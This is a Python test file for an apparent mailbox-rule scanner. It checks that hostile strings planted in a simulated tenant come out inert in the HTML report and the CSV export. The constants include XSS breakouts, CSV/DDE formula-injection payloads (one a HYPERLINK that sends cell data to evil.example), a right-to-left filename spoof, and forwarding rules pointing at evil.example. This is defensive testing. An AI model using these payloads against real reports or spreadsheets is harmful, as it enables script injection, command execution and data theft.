"""End to end: hostile tenant strings planted in the simulator (rule names, display names, folder names, forwarding
targets) go through a real scan and come out inert in report.html and findings.csv (unit-level payload tests are in
tests/reports/)."""

from __future__ import annotations

import csv
import html
import io
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from scanner.simulator import SimOptions, create_app, generate_tenant
from tests.reliability.helpers import env_for, read_findings_json, scan

XSS = '<img src=x onerror="window.__pwned=1">'
SCRIPT = "</script><script>window.__pwned=2</script>"
ATTR = '"><svg onload=window.__pwned=3>'
STYLE = "</style><style>body{display:none}</style>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA2 = "+cmd|' /C calc'!A0"
FORMULA3 = "@SUM(1+1)*cmd|' /C calc'!A0"
RLO = "\u202efdp.exe"
MARKUP_PAYLOADS = (XSS, SCRIPT, ATTR, STYLE)
VICTIM = "megan.bowen@contoso.com"
OTHER = "alex.wilber@contoso.com"


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [k.lower() for k, _ in attrs]


def _plant(tenant: Any) -> None:
    for i, name in enumerate((XSS, SCRIPT, FORMULA, FORMULA2, RLO)):
        tenant.add_rule(VICTIM, displayName=name, conditions={"subjectContains": [ATTR, FORMULA3]},
                        actions={"forwardTo": [{"emailAddress": {"name": STYLE, "address": f"x{i}@evil.example"}}],
                                 "delete": True})
    tenant.add_rule(VICTIM, displayName=FORMULA3, hidden=True, conditions={},
                    actions={"redirectTo": [{"emailAddress": {"name": XSS, "address": "y@evil.example"}}]})
    for upn, name in ((VICTIM, XSS + STYLE), (OTHER, FORMULA)):
        u = tenant.user(upn)
        u.displayName = name
        tenant.mark_dirty(u)
    tenant.set_forwarding(OTHER, smtp="smtp:=1+1@evil.example")


async def test_hostile_tenant_strings_are_inert_in_html_and_csv(tmp_path: Path) -> None:
    tenant = generate_tenant(users=40, seed=7, scenarios=True)
    _plant(tenant)
    env = env_for(tmp_path, tenant, create_app(tenant, SimOptions()))
    out = tmp_path / "out"
    result = await scan(env, out)
    assert result.exit_code in (0, 3)
    findings = read_findings_json(out)["findings"]
    assert {f["account"] for f in findings} >= {VICTIM, OTHER}

    doc = (out / "report.html").read_text("utf-8")
    for payload in MARKUP_PAYLOADS:
        assert payload not in doc, payload
    assert "\u202e" not in doc
    parser = _Tags()
    parser.feed(doc)
    assert "img" not in parser.tags and "iframe" not in parser.tags
    assert parser.tags.count("script") == 2  # our data island and our script, nothing planted
    assert not [a for a in parser.attrs if a.startswith("on")]
    text = html.unescape(re.sub(r"<[^>]+>", "", doc))
    assert XSS in text or XSS in html.unescape(doc)  # legible as text for the analyst

    raw = (out / "findings.csv").read_text("utf-8")
    rows = list(csv.reader(io.StringIO(raw)))
    assert len(rows) == len(findings) + 1
    formula_start = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(formula_start), cell[:80]
    assert "@SUM(1+1)*cmd|" in raw  # the hostile text stays legible inside a cell; it just never leads one
